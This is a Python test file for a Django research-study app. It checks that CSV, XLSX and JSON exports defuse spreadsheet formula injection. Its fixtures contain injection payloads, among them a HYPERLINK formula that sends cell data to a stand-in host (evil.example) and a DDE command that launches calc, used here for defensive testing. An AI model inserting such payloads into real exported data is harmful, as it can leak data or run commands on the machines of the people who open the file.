"""No participant- or importer-typed text reaches a researcher's spreadsheet as a live formula
(CWE-1236): XLSX cells are strings, CSV cells carry the OWASP `'` prefix, JSON keeps the original."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from annotation import participant_services
from annotation.models import Participant, Source, Study
from evaluation.exports.metrics_table import metrics_csv
from surveys.lay import services as lay_answers
from surveys.radiologist import services as expert_answers

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
PAYLOADS = {
    "source": "=2+5",
    "most_justification": HYPERLINK,
    "least_justification": "+SUM(1,2)",
    "comment": "@cmd|' /C calc'!A0",
}


@pytest.fixture
def study(db, tmp_path):
    source_file = tmp_path / "study.csv"
    with source_file.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["source_key", "source_text", "plain", "cot"])
        writer.writerow([PAYLOADS["source"], "No acute fracture.", "Bones are fine.", "No broken bones."])
    call_command("import_study", str(source_file), "--study", "formulas", stdout=io.StringIO())
    study = Study.objects.get(slug="formulas")
    source = Source.objects.get(study=study)
    texts = {
        s.system.key: s.shown_text for s in source.simplifications.select_related("system", "shown_text")
    }

    person = participant_services.participant_create(study=study, role=Participant.Role.LAYPERSON)
    item = lay_answers.lay_item_create(
        participant=person,
        source=source,
        position=0,
        shown_text=texts["plain"],
        assigned_system=source.simplifications.get(system__key="plain").system,
    )
    lay_answers.lay_answer_save(item=item, phase="original", answers={"understanding": "Completely"})
    lay_answers.lay_preference_save(
        item=item,
        most=[texts["plain"].pk],
        least=[texts["cot"].pk],
        most_justification=PAYLOADS["most_justification"],
        least_justification=PAYLOADS["least_justification"] + "\tand\rmore",
    )
    radiologist = participant_services.participant_create(study=study, role=Participant.Role.RADIOLOGIST)
    expert_answers.expert_item_create(participant=radiologist, source=source, position=0)
    expert_answers.expert_rating_save(
        participant=radiologist,
        shown_text=texts["plain"],
        scores={"correctness": 5, "completeness": 5, "hallucination": 5, "structure": 5, "simplicity": 5},
        comment=PAYLOADS["comment"],
    )
    return study


def _export(name: str, tmp_path) -> bytes:
    out = tmp_path / f"answers.{name}"
    call_command("export", "--study", "formulas", "--format", name, "--out", str(out), stderr=io.StringIO())
    return out.read_bytes()


def test_xlsx_has_no_formula_cell(study, tmp_path):
    (tmp_path / "answers.xlsx").write_bytes(_export("xlsx", tmp_path))
    sheet = openpyxl.load_workbook(tmp_path / "answers.xlsx").worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    # kept as typed, as text
    assert HYPERLINK in values
    assert PAYLOADS["source"] in values
    assert PAYLOADS["comment"] in values


def test_csv_cells_are_prefixed(study, tmp_path):
    rows = list(csv.reader(io.StringIO(_export("csv", tmp_path).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + HYPERLINK in cells
    assert "'" + PAYLOADS["source"] in cells
    assert "'" + PAYLOADS["comment"] in cells
    assert "'" + PAYLOADS["least_justification"] + "\tand\rmore" in cells


def test_json_keeps_the_original(study, tmp_path):
    records = json.loads(_export("json", tmp_path))
    values = {r["value"] for r in records}
    assert HYPERLINK in values
    assert {r["source"] for r in records} == {PAYLOADS["source"]}


def test_streamed_downloads_are_neutralised(study, client, tmp_path):
    user = get_user_model().objects.create_user("res", password="pw")
    study.researchers.add(user)
    client.force_login(user)
    response = client.get("/dashboard/formulas/export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert "\r\n'=HYPERLINK" not in body  # never at the start of a cell
    assert "'" + PAYLOADS["source"] in body
    assert not [c for row in csv.reader(io.StringIO(body)) for c in row if c.startswith("=")]
    response = client.get("/api/studies/formulas/exports/xlsx/")
    assert response.status_code == 200
    (tmp_path / "api.xlsx").write_bytes(b"".join(response.streaming_content))
    sheet = openpyxl.load_workbook(tmp_path / "api.xlsx").worksheets[0]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_metrics_csv_cells_are_prefixed():
    analysis = {
        "systems": ["-minus"],
        "metrics": {
            "text_metrics": ["fkgl"],
            "per_simplification": [{"source": "=2+5", "system": "-minus", "text_id": 1, "fkgl": -1.5}],
            "per_system": {"-minus": {"fkgl": -1.5}},
        },
    }
    rows = list(csv.reader(io.StringIO(metrics_csv(analysis))))
    assert rows[1][:3] == ["simplification", "'=2+5", "'-minus"]
    assert rows[1][4] == "-1.5"  # numbers stay numbers
    assert rows[2][2] == "'-minus"
